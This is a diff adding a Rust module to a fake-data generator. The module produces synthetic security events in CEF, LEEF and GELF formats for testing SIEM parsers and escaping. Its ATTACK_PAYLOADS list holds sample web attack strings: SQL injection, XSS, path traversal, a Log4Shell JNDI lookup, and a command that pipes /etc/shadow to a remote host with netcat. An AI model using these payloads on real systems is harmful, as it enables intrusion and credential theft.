@@ -0,0 +1,510 @@
+//! Module security provides security events in the formats SIEMs ingest: ArcSight Common Event
+//! Format (CEF), IBM Log Event Extended Format (LEEF) 1.0 and 2.0, and Graylog Extended Log Format
+//! (GELF).
+//!
+//! Values are escaped with the rules of each format, and the generated events deliberately contain
+//! characters like `=`, `|` and `\`, so parsers which skip unescaping are caught.
+
+use rand::Rng;
+use serde_json::json;
+
+use crate::datetime;
+use crate::id::random_hex;
+use crate::url::gen_request_path;
+use crate::{gen_domain, gen_http_method, gen_ipv4, gen_private_ipv4, gen_username};
+
+const DEVICE_VENDOR: &str = "Fakedata";
+const DEVICE_PRODUCT: &str = "Sentinel";
+const DEVICE_VERSION: &str = "1.0";
+
+const MALWARE_NAMES: [&str; 6] = [
+    "EICAR-Test-File",
+    "Trojan.GenericKD.46542",
+    "Ransom.WannaCry",
+    "Backdoor.Cobalt|Beacon",
+    "Worm.Conficker.B",
+    "PUA.CoinMiner=XMRig",
+];
+
+const MALWARE_FILES: [&str; 5] = [
+    "C:\\Users\\Public\\Downloads\\invoice.pdf.exe",
+    "C:\\Windows\\Temp\\svch0st.exe",
+    "/tmp/.x/kworker",
+    "/home/deploy/.cache/update.sh",
+    "D:\\Shares\\Finance\\Q3 report.xlsm",
+];
+
+const ATTACK_PAYLOADS: [&str; 5] = [
+    "id=1' OR '1'='1",
+    "q=<script>alert(1)</script>",
+    "file=../../../../etc/passwd",
+    "cmd=cat /etc/shadow | nc 203.0.113.9 4444",
+    "name=${jndi:ldap://203.0.113.9/a}",
+];
+
+/// The kind of a [`SecurityEvent`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum SecurityEventKind {
+    LoginSuccess,
+    LoginFailure,
+    PortScan,
+    MalwareDetected,
+    FirewallBlock,
+    WebAttack,
+    PrivilegeEscalation,
+}
+
+impl SecurityEventKind {
+    /// Every kind of event.
+    pub const ALL: [SecurityEventKind; 7] = [
+        SecurityEventKind::LoginSuccess,
+        SecurityEventKind::LoginFailure,
+        SecurityEventKind::PortScan,
+        SecurityEventKind::MalwareDetected,
+        SecurityEventKind::FirewallBlock,
+        SecurityEventKind::WebAttack,
+        SecurityEventKind::PrivilegeEscalation,
+    ];
+
+    /// Signature id of the event class, used as CEF `Signature ID` and LEEF `EventID`.
+    pub fn signature_id(&self) -> &'static str {
+        match self {
+            SecurityEventKind::LoginSuccess => "4624",
+            SecurityEventKind::LoginFailure => "4625",
+            SecurityEventKind::PortScan => "1001",
+            SecurityEventKind::MalwareDetected => "2001",
+            SecurityEventKind::FirewallBlock => "3001",
+            SecurityEventKind::WebAttack => "4001",
+            SecurityEventKind::PrivilegeEscalation => "4672",
+        }
+    }
+
+    /// Human readable name, used as CEF `Name`.
+    pub fn name(&self) -> &'static str {
+        match self {
+            SecurityEventKind::LoginSuccess => "Successful login",
+            SecurityEventKind::LoginFailure => "Failed login",
+            SecurityEventKind::PortScan => "Port scan detected",
+            SecurityEventKind::MalwareDetected => "Malware detected",
+            SecurityEventKind::FirewallBlock => "Connection blocked",
+            SecurityEventKind::WebAttack => "Web application attack",
+            SecurityEventKind::PrivilegeEscalation => "Privilege escalation",
+        }
+    }
+
+    /// CEF severity from `0` (lowest) to `10` (highest).
+    pub fn severity(&self) -> u8 {
+        match self {
+            SecurityEventKind::LoginSuccess => 2,
+            SecurityEventKind::LoginFailure => 5,
+            SecurityEventKind::PortScan => 6,
+            SecurityEventKind::MalwareDetected => 9,
+            SecurityEventKind::FirewallBlock => 4,
+            SecurityEventKind::WebAttack => 8,
+            SecurityEventKind::PrivilegeEscalation => 10,
+        }
+    }
+}
+
+/// Output format for [`SecurityEvent::format`].
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
+pub enum SecurityFormat {
+    /// ArcSight Common Event Format: `CEF:0|Vendor|Product|Version|SignatureID|Name|Severity|ext`.
+    #[default]
+    Cef,
+    /// LEEF 1.0 with tab separated attributes.
+    Leef1,
+    /// LEEF 2.0 with `^` as attribute delimiter, declared in the header.
+    Leef2,
+    /// GELF 1.1 JSON with additional fields prefixed by `_`.
+    Gelf,
+}
+
+/// One security event.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SecurityEvent {
+    pub kind: SecurityEventKind,
+    /// Milliseconds since the Unix epoch.
+    pub timestamp: i64,
+    /// Host which reported the event.
+    pub device_host: String,
+    pub source_ip: String,
+    pub source_port: u16,
+    pub destination_ip: String,
+    pub destination_port: u16,
+    pub protocol: &'static str,
+    pub user: String,
+    /// `allowed`, `blocked` or `quarantined`.
+    pub action: &'static str,
+    /// HTTP method and request of web attacks.
+    pub request: Option<(String, String)>,
+    /// File path and SHA-256 hash of malware detections.
+    pub file: Option<(String, String)>,
+    pub message: String,
+}
+
+/// Escape a CEF header field: backslash and pipe.
+fn cef_header(value: &str) -> String {
+    value.replace('\\', "\\\\").replace('|', "\\|")
+}
+
+/// Escape a CEF extension value: backslash, equal sign and line breaks.
+fn cef_value(value: &str) -> String {
+    value
+        .replace('\\', "\\\\")
+        .replace('=', "\\=")
+        .replace('\r', "\\r")
+        .replace('\n', "\\n")
+}
+
+/// Escape a LEEF attribute value: backslash, equal sign and the attribute delimiter. Line breaks
+/// would end the event, so they are replaced by spaces.
+fn leef_value(value: &str, delimiter: char) -> String {
+    let mut escaped = String::with_capacity(value.len());
+    for c in value.chars() {
+        match c {
+            '\r' | '\n' => escaped.push(' '),
+            '\\' | '=' => {
+                escaped.push('\\');
+                escaped.push(c);
+            }
+            c if c == delimiter => {
+                escaped.push('\\');
+                escaped.push(c);
+            }
+            c => escaped.push(c),
+        }
+    }
+    escaped
+}
+
+/// Syslog severity of GELF `level`, derived from the CEF severity.
+fn syslog_level(severity: u8) -> u8 {
+    match severity {
+        9.. => 2,
+        7..=8 => 3,
+        4..=6 => 4,
+        _ => 6,
+    }
+}
+
+impl SecurityEvent {
+    /// Key-value pairs of the event with CEF extension keys, in output order.
+    fn fields(&self) -> Vec<(&'static str, String)> {
+        let mut fields = vec![
+            ("rt", self.timestamp.to_string()),
+            ("dvchost", self.device_host.clone()),
+            ("src", self.source_ip.clone()),
+            ("spt", self.source_port.to_string()),
+            ("dst", self.destination_ip.clone()),
+            ("dpt", self.destination_port.to_string()),
+            ("proto", self.protocol.to_string()),
+            ("suser", self.user.clone()),
+            ("act", self.action.to_string()),
+        ];
+        if let Some((method, url)) = &self.request {
+            fields.push(("requestMethod", method.clone()));
+            fields.push(("request", url.clone()));
+        }
+        if let Some((path, hash)) = &self.file {
+            fields.push(("filePath", path.clone()));
+            fields.push(("fileHash", hash.clone()));
+        }
+        fields.push(("msg", self.message.clone()));
+        fields
+    }
+
+    /// The event as one line in `format`.
+    ///
+    /// ## Example
+    /// ```rust
+    /// use fakedata_generator::logs::security::{gen_security_event_of, SecurityEventKind, SecurityFormat};
+    /// let event = gen_security_event_of(SecurityEventKind::LoginFailure);
+    /// let cef = event.format(SecurityFormat::Cef);
+    /// // cef => "CEF:0|Fakedata|Sentinel|1.0|4625|Failed login|5|rt=1700000000042 dvchost=amber-fig.com src=81.2.69.142 ..."
+    /// assert!(cef.starts_with("CEF:0|Fakedata|Sentinel|1.0|4625|Failed login|5|rt="));
+    /// let leef = event.format(SecurityFormat::Leef2);
+    /// // leef => "LEEF:2.0|Fakedata|Sentinel|1.0|4625|^|devTime=1700000000042^src=81.2.69.142^..."
+    /// assert!(leef.starts_with("LEEF:2.0|Fakedata|Sentinel|1.0|4625|^|"));
+    /// ```
+    pub fn format(&self, format: SecurityFormat) -> String {
+        match format {
+            SecurityFormat::Cef => {
+                let extension: Vec<String> = self
+                    .fields()
+                    .into_iter()
+                    .map(|(key, value)| format!("{}={}", key, cef_value(&value)))
+                    .collect();
+                format!(
+                    "CEF:0|{}|{}|{}|{}|{}|{}|{}",
+                    cef_header(DEVICE_VENDOR),
+                    cef_header(DEVICE_PRODUCT),
+                    cef_header(DEVICE_VERSION),
+                    self.kind.signature_id(),
+                    cef_header(self.kind.name()),
+                    self.kind.severity(),
+                    extension.join(" ")
+                )
+            }
+            SecurityFormat::Leef1 | SecurityFormat::Leef2 => {
+                let (header, delimiter) = match format {
+                    SecurityFormat::Leef1 => ("LEEF:1.0", '\t'),
+                    _ => ("LEEF:2.0", '^'),
+                };
+                let mut attributes = vec![
+                    format!("devTime={}", self.timestamp),
+                    format!("sev={}", self.kind.severity()),
+                    format!("cat={}", leef_value(self.kind.name(), delimiter)),
+                ];
+                for (key, value) in self.fields() {
+                    // devTime already carries the timestamp
+                    if key == "rt" {
+                        continue;
+                    }
+                    let key = match key {
+                        "suser" => "usrName",
+                        "spt" => "srcPort",
+                        "dpt" => "dstPort",
+                        "requestMethod" => "method",
+                        "request" => "url",
+                        key => key,
+                    };
+                    attributes.push(format!("{}={}", key, leef_value(&value, delimiter)));
+                }
+                let mut line = format!(
+                    "{}|{}|{}|{}|{}|",
+                    header,
+                    cef_header(DEVICE_VENDOR),
+                    cef_header(DEVICE_PRODUCT),
+                    cef_header(DEVICE_VERSION),
+                    self.kind.signature_id()
+                );
+                if format == SecurityFormat::Leef2 {
+                    line.push(delimiter);
+                    line.push('|');
+                }
+                line.push_str(&attributes.join(&delimiter.to_string()));
+                line
+            }
+            SecurityFormat::Gelf => {
+                let mut gelf = json!({
+                    "version": "1.1",
+                    "host": self.device_host,
+                    "short_message": self.kind.name(),
+                    "full_message": self.message,
+                    "timestamp": self.timestamp as f64 / 1000.0,
+                    "level": syslog_level(self.kind.severity()),
+                    "_event_id": self.kind.signature_id(),
+                    "_severity": self.kind.severity(),
+                });
+                for (key, value) in self.fields() {
+                    if matches!(key, "rt" | "dvchost" | "msg") {
+                        continue;
+                    }
+                    // GELF keeps numbers numeric, so ports can be aggregated
+                    gelf[format!("_{}", key)] = match value.parse::<u64>() {
+                        Ok(number) => json!(number),
+                        Err(_) => json!(value),
+                    };
+                }
+                gelf.to_string()
+            }
+        }
+    }
+}
+
+fn event_at(kind: SecurityEventKind, timestamp: i64, rnd: &mut impl Rng) -> SecurityEvent {
+    let user = gen_username();
+    let mut event = SecurityEvent {
+        kind,
+        timestamp,
+        device_host: gen_domain(),
+        source_ip: gen_ipv4(),
+        source_port: rnd.random_range(1024..=65_535),
+        destination_ip: gen_private_ipv4(10),
+        destination_port: 22,
+        protocol: "TCP",
+        user: user.clone(),
+        action: "allowed",
+        request: None,
+        file: None,
+        message: String::new(),
+    };
+    event.message = match kind {
+        SecurityEventKind::LoginSuccess => {
+            event.destination_port = [22, 443, 3389][rnd.random_range(0..3)];
+            format!("user {} logged in from {}", user, event.source_ip)
+        }
+        SecurityEventKind::LoginFailure => {
+            event.destination_port = [22, 443, 3389][rnd.random_range(0..3)];
+            event.action = "blocked";
+            format!(
+                "authentication failure for user {}: invalid password, attempt {} of 5",
+                user,
+                rnd.random_range(1..=5)
+            )
+        }
+        SecurityEventKind::PortScan => {
+            event.destination_port = rnd.random_range(1..1024);
+            event.action = "blocked";
+            format!(
+                "{} probed {} ports of {} in {}s",
+                event.source_ip,
+                rnd.random_range(100..65_535),
+                event.destination_ip,
+                rnd.random_range(1..120)
+            )
+        }
+        SecurityEventKind::MalwareDetected => {
+            event.source_ip = gen_private_ipv4(10);
+            event.destination_port = 445;
+            event.action = "quarantined";
+            let name = MALWARE_NAMES[rnd.random_range(0..MALWARE_NAMES.len())];
+            let path = MALWARE_FILES[rnd.random_range(0..MALWARE_FILES.len())];
+            event.file = Some((path.to_string(), random_hex(rnd, 32)));
+            format!("{} found in {}", name, path)
+        }
+        SecurityEventKind::FirewallBlock => {
+            event.destination_port = [23, 25, 135, 445, 1433, 3306, 5900][rnd.random_range(0..7)];
+            event.protocol = ["TCP", "UDP"][rnd.random_range(0..2)];
+            event.action = "blocked";
+            format!(
+                "deny {} {}:{} -> {}:{}",
+                event.protocol,
+                event.source_ip,
+                event.source_port,
+                event.destination_ip,
+                event.destination_port
+            )
+        }
+        SecurityEventKind::WebAttack => {
+            event.destination_port = 443;
+            event.action = "blocked";
+            let payload = ATTACK_PAYLOADS[rnd.random_range(0..ATTACK_PAYLOADS.len())];
+            let path = gen_request_path(3);
+            let separator = if path.contains('?') { '&' } else { '?' };
+            let url = format!(
+                "https://{}{}{}{}",
+                event.device_host, path, separator, payload
+            );
+            event.request = Some((gen_http_method(), url));
+            format!(
+                "request matched rule {}: {}",
+                rnd.random_range(900..1000),
+                payload
+            )
+        }
+        SecurityEventKind::PrivilegeEscalation => {
+            event.source_ip = gen_private_ipv4(10);
+            format!("user {} was added to group Domain Admins", user)
+        }
+    };
+    event
+}
+
+/// Returns a security event of a random kind, dated now.
+///
+/// ## Example
+/// ```rust
+/// use fakedata_generator::logs::security::gen_security_event;
+/// let event = gen_security_event();
+/// // event.message => "user AnthraX logged in from 81.2.69.142"
+/// assert!(!event.message.is_empty());
+/// ```
+pub fn gen_security_event() -> SecurityEvent {
+    let mut rnd = rand::rng();
+    let kind = SecurityEventKind::ALL[rnd.random_range(0..SecurityEventKind::ALL.len())];
+    event_at(kind, datetime::now() * 1000, &mut rnd)
+}
+
+/// Returns a security event of `kind`, dated now.
+///
+/// ## Example
+/// ```rust
+/// use fakedata_generator::logs::security::{gen_security_event_of, SecurityEventKind};
+/// let event = gen_security_event_of(SecurityEventKind::MalwareDetected);
+/// // event.file => Some(("C:\\Windows\\Temp\\svch0st.exe", "9f86d081884c7d65..."))
+/// assert!(event.file.is_some());
+/// ```
+pub fn gen_security_event_of(kind: SecurityEventKind) -> SecurityEvent {
+    let mut rnd = rand::rng();
+    event_at(kind, datetime::now() * 1000, &mut rnd)
+}
+
+/// Returns `n` security events of random kinds in `format`, with increasing timestamps within the
+/// last hour.
+///
+/// ## Example
+/// ```rust
+/// use fakedata_generator::logs::security::{gen_security_log, SecurityFormat};
+/// let lines: Vec<String> = gen_security_log(5, SecurityFormat::Gelf);
+/// // lines[0] => {"_act":"blocked","_dpt":3389,...,"version":"1.1"}
+/// assert_eq!(lines.len(), 5);
+/// ```
+pub fn gen_security_log(n: usize, format: SecurityFormat) -> Vec<String> {
+    let mut rnd = rand::rng();
+    let mut timestamp = (datetime::now() - 3600) * 1000;
+    (0..n)
+        .map(|_| {
+            timestamp += rnd.random_range(0..5000);
+            let kind = SecurityEventKind::ALL[rnd.random_range(0..SecurityEventKind::ALL.len())];
+            event_at(kind, timestamp, &mut rnd).format(format)
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_escaping() {
+        assert_eq!(cef_header("a|b\\c"), "a\\|b\\\\c");
+        assert_eq!(cef_value("id=1|x\\y\nz"), "id\\=1|x\\\\y\\nz");
+        assert_eq!(leef_value("a=b^c\td", '^'), "a\\=b\\^c\td");
+        assert_eq!(leef_value("a\tb\nc", '\t'), "a\\\tb c");
+    }
+
+    #[test]
+    fn test_cef() {
+        for kind in SecurityEventKind::ALL {
+            let event = gen_security_event_of(kind);
+            let line = event.format(SecurityFormat::Cef);
+            assert!(!line.contains('\n'));
+            // the header has exactly seven unescaped pipes, the extension may contain raw pipes
+            let header: Vec<&str> = line.splitn(8, '|').collect();
+            assert_eq!(header[4], kind.signature_id());
+            let extension = header[7];
+            assert!(extension.starts_with("rt="));
+            // every unescaped '=' separates a key from its value
+            let mut separators = 0;
+            let mut escaped = false;
+            for c in extension.chars() {
+                match c {
+                    '\\' if !escaped => escaped = true,
+                    '=' if !escaped => separators += 1,
+                    _ => escaped = false,
+                }
+            }
+            assert_eq!(separators, event.fields().len());
+        }
+    }
+
+    #[test]
+    fn test_leef_and_gelf() {
+        let event = gen_security_event_of(SecurityEventKind::WebAttack);
+        let leef1 = event.format(SecurityFormat::Leef1);
+        assert!(leef1.starts_with("LEEF:1.0|Fakedata|Sentinel|1.0|4001|devTime="));
+        assert!(leef1.contains("\tmethod="));
+        let leef2 = event.format(SecurityFormat::Leef2);
+        assert!(leef2.starts_with("LEEF:2.0|Fakedata|Sentinel|1.0|4001|^|devTime="));
+        assert!(!leef2.contains('\t'));
+
+        let gelf: serde_json::Value =
+            serde_json::from_str(&event.format(SecurityFormat::Gelf)).unwrap();
+        assert_eq!(gelf["version"], "1.1");
+        assert_eq!(gelf["level"], 3);
+        assert_eq!(gelf["_request"], event.request.unwrap().1.as_str());
+        assert!(gelf.get("_id").is_none());
+    }
+}